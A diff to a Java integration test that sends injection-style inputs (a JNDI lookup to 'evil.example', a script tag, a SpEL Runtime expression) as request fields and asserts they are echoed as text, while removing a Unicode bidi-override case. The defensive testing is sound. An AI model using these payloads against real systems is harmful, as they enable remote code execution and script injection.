@@ -175,15 +175,13 @@ class BadRequestsIntegrationTests {
                 "${jndi:ldap://evil.example/a}",
                 "<script>alert(1)</script>",
                 "#{T(java.lang.Runtime).getRuntime()}",
-                "{0} '{'1}",
-                "\\u202Eabc"
+                "{0} '{'1}"
             })
     void whatLooksLikeCodeIsText(String text) {
         Answer product = client.decide(
                 request("basic", "\"product\": \"" + text + "\"", "issue-feedback", AT), "Accept-Language", "en");
         assertThat(product.errors()).containsExactly("/subscription/product unknown-product");
-        assertThat(product.json().at("/errors/0/message").asString())
-                .contains(text.startsWith("\\u202E") ? "\uFFFDabc" : text);
+        assertThat(product.json().at("/errors/0/message").asString()).contains(text);
         assertThat(client.decide(request(text, "\"usage\": []", "issue-feedback", AT))
                         .errors())
                 .containsExactly("/subscription/plan text-not-of-form");
